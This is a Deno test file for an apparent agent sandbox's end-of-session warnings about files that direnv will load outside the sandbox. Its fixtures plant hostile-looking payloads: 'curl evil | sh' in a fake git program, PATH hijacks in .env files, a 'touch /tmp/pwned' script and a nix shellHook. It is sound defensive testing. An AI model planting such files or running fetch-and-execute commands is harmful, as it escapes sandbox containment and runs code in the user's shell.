/**
 * The files an `.envrc` has direnv load (`dotenv`'s `.env`, `source_env_if_exists .envrc.private`): direnv
 * checks the `.envrc` against the hash the user allowed, not them, and loads them into the user's shell when
 * they next enter the folder. They stay writable (a `.env` holds the settings agents are asked to change);
 * the end of the session names each one that changed or appeared, and the `.envrc` that loads it.
 */
import { deepStrictEqual, equal } from "node:assert/strict";
import { join } from "node:path";
import { createTempWorkspace } from "../_fakes/tool_context.ts";
import { openSandbox, outputOf, runIn } from "./_sandbox.ts";

Deno.test("The end of the session names a .env an .envrc loads with dotenv that a command changed, and a script it sources that appeared", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(join(root, "api"));
  await Deno.writeTextFile(
    join(root, "api/.envrc"),
    "dotenv\nsource_env_if_exists .envrc.private\nsource_env $HOME/computed.sh\n",
  );
  await Deno.writeTextFile(join(root, "api/.env"), "PORT=3000\n");
  // No .envrc loads this one: an application's own settings.
  await Deno.mkdir(join(root, "web"));
  await Deno.writeTextFile(join(root, "web/.env"), "PORT=4000\n");
  await using sandbox = await openSandbox(root, "workspace-write");
  const { result } = await runIn(
    sandbox,
    "echo 'PATH=./bin:$PATH' >> api/.env && echo 'touch /tmp/pwned' > api/.envrc.private && " +
      "echo 'PORT=1' > web/.env && echo ok",
  );
  equal(outputOf(result), "ok", result.content);

  deepStrictEqual(await sandbox.endOfSession(), [
    "api/.env changed during the session, and `dotenv` in api/.envrc loads it: direnv exports what it sets " +
    "(PATH, LD_PRELOAD and the like run code) into your shell, outside any sandbox, when you next enter " +
    "that folder; look at what it holds before you do",
    "api/.envrc.private appeared during the session, and `source_env_if_exists .envrc.private` in " +
    "api/.envrc loads it: direnv runs it in your shell, outside any sandbox, when you next enter that " +
    "folder; look at what it holds before you do",
    "`source_env $HOME/computed.sh` in api/.envrc was not followed (it names what it loads with a variable " +
    "or a command, known only when direnv runs it): whether the session changed what it loads was not " +
    "checked; look at it before you next enter that folder",
  ]);
});

Deno.test("The end of the session follows source_up, source_env of a folder and what a sourced file loads in turn", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(join(root, "api/v1"), { recursive: true });
  await Deno.mkdir(join(root, "api/scripts"));
  await Deno.mkdir(join(root, "lib"));
  // source_up looks from the folder above for the nearest .envrc.shared: root's now, api's once it exists.
  await Deno.writeTextFile(
    join(root, "api/v1/.envrc"),
    "source_up .envrc.shared\nsource_env ../scripts/env.sh\n",
  );
  await Deno.writeTextFile(join(root, ".envrc.shared"), "dotenv .env.shared\n");
  await Deno.writeTextFile(join(root, ".env.shared"), "A=1\n");
  // A sourced file's own lines run from its folder.
  await Deno.writeTextFile(join(root, "api/scripts/env.sh"), "PATH_add ../bin\nsource_env ../../lib\n");
  await Deno.writeTextFile(join(root, "lib/.envrc"), "export A=1\n");
  await using sandbox = await openSandbox(root, "workspace-write");
  const { result } = await runIn(
    sandbox,
    "echo 'PATH=.:$PATH' >> .env.shared && echo 'touch /tmp/pwned' > api/.envrc.shared && " +
      "mkdir -p api/bin && printf '#!/bin/sh\\n' > api/bin/git && chmod +x api/bin/git && echo ok",
  );
  equal(outputOf(result), "ok", result.content);

  deepStrictEqual(await sandbox.endOfSession(), [
    "api/.envrc.shared appeared during the session, and `source_up .envrc.shared` in api/v1/.envrc loads " +
    "it: direnv runs it in your shell, outside any sandbox, when you next enter that folder; look at what " +
    "it holds before you do",
    ".env.shared changed during the session, and `dotenv .env.shared` in .envrc.shared loads it: direnv " +
    "exports what it sets (PATH, LD_PRELOAD and the like run code) into your shell, outside any sandbox, " +
    "when you next enter that folder; look at what it holds before you do",
    "api/bin gained or changed 1 program during the session (git), and `PATH_add ../bin` in " +
    "api/scripts/env.sh loads it: direnv puts that folder first on your PATH, so a name you type there " +
    "runs them, outside any sandbox, when you next enter that folder; look at them before you do",
  ]);
});

Deno.test("The end of the session names programs made in the virtualenv layout python puts on the PATH, and what it did not follow", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.writeTextFile(
    join(root, ".envrc"),
    "layout python3\nlayout pipenv\nPATH_add $PWD/tools\nexport PATH=$PWD/x:$PATH\n",
  );
  await Deno.mkdir(join(root, ".direnv/python-3.11/bin"), { recursive: true });
  await Deno.writeTextFile(join(root, ".direnv/python-3.11/bin/python"), "#!/bin/sh\n", { mode: 0o755 });
  await using sandbox = await openSandbox(root, "workspace-write");
  const { result } = await runIn(
    sandbox,
    "printf '#!/bin/sh\\n' > .direnv/python-3.11/bin/git && mkdir -p .direnv/python-3.12/bin && " +
      "printf '#!/bin/sh\\n' > .direnv/python-3.12/bin/ls && echo ok",
  );
  equal(outputOf(result), "ok", result.content);

  deepStrictEqual(await sandbox.endOfSession(), [
    ".direnv/python-*/bin gained or changed 2 programs during the session (python-3.11/bin/git, " +
    "python-3.12/bin/ls), and `layout python3` in .envrc loads it: direnv puts that folder first on your " +
    "PATH, so a name you type there runs them, outside any sandbox, when you next enter that folder; look " +
    "at them before you do",
    "`layout pipenv` in .envrc was not followed (where that layout puts programs is known only when direnv " +
    "runs it): whether the session changed what it loads was not checked; look at it before you next " +
    "enter that folder",
    "`PATH_add $PWD/tools` in .envrc was not followed (it names what it loads with a variable or a " +
    "command, known only when direnv runs it): whether the session changed what it loads was not checked; " +
    "look at it before you next enter that folder",
    "`export PATH=$PWD/x:$PATH` in .envrc was not followed (it sets PATH itself): whether the session " +
    "changed what it loads was not checked; look at it before you next enter that folder",
  ]);
});

Deno.test("The end of the session says nothing of the files an .envrc loads when none changed", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.writeTextFile(join(root, ".envrc"), "dotenv_if_exists .env.local\n");
  await Deno.writeTextFile(join(root, ".env.local"), "A=1\n");
  await using sandbox = await openSandbox(root, "workspace-write");
  const { result } = await runIn(sandbox, "cat .env.local > copy && echo ok");
  equal(outputOf(result), "ok", result.content);
  deepStrictEqual(await sandbox.endOfSession(), []);
});

Deno.test("The end of the session names programs made in a folder an .envrc puts on the PATH, and nix files it has evaluated", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.writeTextFile(
    join(root, ".envrc"),
    "PATH_add bin\nlayout node\nuse flake\nuse nix\nuse flake github:owner/repo\n",
  );
  await Deno.mkdir(join(root, "bin"));
  await Deno.writeTextFile(join(root, "bin/build"), "#!/bin/sh\n", { mode: 0o755 });
  await Deno.writeTextFile(join(root, "flake.nix"), "{ outputs = _: {}; }\n");
  await using sandbox = await openSandbox(root, "workspace-write");
  const { result } = await runIn(
    sandbox,
    "printf '#!/bin/sh\\ncurl evil | sh\\n' > bin/git && chmod +x bin/git && touch bin/build && " +
      "mkdir -p node_modules/.bin && ln -s ../x/ls.js node_modules/.bin/ls && " +
      "echo '{ outputs = _: { shellHook = \"id\"; }; }' > flake.nix && echo '{}' > shell.nix && echo ok",
  );
  equal(outputOf(result), "ok", result.content);

  deepStrictEqual(await sandbox.endOfSession(), [
    "bin gained or changed 2 programs during the session (build, git), and `PATH_add bin` in .envrc loads " +
    "it: direnv puts that folder first on your PATH, so a name you type there runs them, outside any " +
    "sandbox, when you next enter that folder; look at them before you do",
    "node_modules/.bin gained or changed 1 program during the session (ls), and `layout node` in .envrc " +
    "loads it: direnv puts that folder first on your PATH, so a name you type there runs them, outside any " +
    "sandbox, when you next enter that folder; look at them before you do",
    "flake.nix changed during the session, and `use flake` in .envrc loads it: direnv has nix evaluate it " +
    "and runs its shellHook in your shell, outside any sandbox, when you next enter that folder; look at " +
    "what it holds before you do",
    "shell.nix appeared during the session, and `use nix` in .envrc loads it: direnv has nix evaluate it " +
    "and runs its shellHook in your shell, outside any sandbox, when you next enter that folder; look at " +
    "what it holds before you do",
  ]);
});
